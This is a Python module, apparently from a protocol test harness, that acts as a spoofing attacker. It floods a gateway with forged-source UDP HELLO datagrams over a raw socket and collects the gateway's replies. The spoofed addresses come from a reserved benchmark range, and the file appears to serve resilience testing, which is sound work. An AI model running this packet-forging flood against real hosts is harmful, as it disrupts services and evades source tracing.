"""The attacker who knows address and port only: datagrams with any source address, from a raw socket.

As a program it sends HELLOs until its standard input ends, and prints how many they were:
forger.py HOST PORT RATE SEED [ID...]. The ids are of devices that there are (in hex); half of the HELLOs name one.
"""

import os
import random
import select
import socket
import struct
import sys
import time
from collections.abc import Iterable, Iterator
from pathlib import Path

if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from attacker import frames  # noqa: E402

# The port that forged datagrams come from, so that one socket can see all answers to them.
PORT = 4444
PREPARED = 4096
SO_RCVBUFFORCE = 33  # Python does not name it


def can_forge() -> bool:
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).close()
        return True
    except PermissionError:
        return False


class Forger:
    def __init__(self, gateway: tuple[str, int]) -> None:
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self._gateway = gateway
        self._destination = socket.inet_aton(gateway[0])

    def send(self, source: tuple[str, int], data: bytes) -> None:
        udp = struct.pack("!HHHH", source[1], self._gateway[1], 8 + len(data), 0)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(data), 0, 0, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(source[0]), self._destination)
        try:
            self._socket.sendto(ip + udp + data, (self._gateway[0], 0))
        except OSError:
            pass  # no room in a buffer: as good as lost

    def close(self) -> None:
        self._socket.close()


def hello(wire: int, id: bytes) -> bytes:
    return frames.frame(wire, frames.HELLO, 0, id + os.urandom(32))


def sources(seed: int, count: int, port: int = PORT) -> Iterable[tuple[str, int]]:
    """Addresses in 198.18.0.0/15, which is for benchmarks and is nobody's."""
    draw = random.Random(seed)
    return ((f"198.{18 + draw.randrange(2)}.{draw.randrange(256)}.{draw.randrange(1, 255)}", port) for _ in range(count))


class Answers:
    """Sees what the gateway sends to the forged addresses."""

    def __init__(self) -> None:
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 1 << 24)
        self._socket.bind(("0.0.0.0", 0))
        self.port: int = self._socket.getsockname()[1]

    def take(self, silence: float) -> list[bytes]:
        """All that has come, until nothing comes for `silence`."""
        self._socket.settimeout(silence)
        came = []
        try:
            while True:
                came.append(self._socket.recv(2048))
        except TimeoutError:
            return came

    def close(self) -> None:
        self._socket.close()


def flood(gateway: tuple[str, int], rate: int, seed: int, ids: list[bytes]) -> Iterator[int]:
    """Sends HELLOs of both wires at `rate` a second; yields their number about a hundred times a second."""
    draw = random.Random(seed)
    prepared = [hello(draw.choice((1, 2)), draw.choice(ids) if ids and draw.random() < 0.5 else draw.randbytes(6))
                for _ in range(PREPARED)]
    forger = Forger(gateway)
    begun, sent = time.monotonic(), 0
    from_where = iter(sources(seed, 1 << 62))
    while True:
        for _ in range(int((time.monotonic() - begun) * rate) - sent):
            forger.send(next(from_where), draw.choice(prepared))
            sent += 1
        yield sent
        time.sleep(0.01)


def main() -> None:
    host, port, rate, seed, *ids = sys.argv[1:]
    for sent in flood((host, int(port)), int(rate), int(seed), [bytes.fromhex(id) for id in ids]):
        if select.select([sys.stdin], [], [], 0)[0]:
            break
    print(sent, flush=True)


if __name__ == "__main__":
    main()
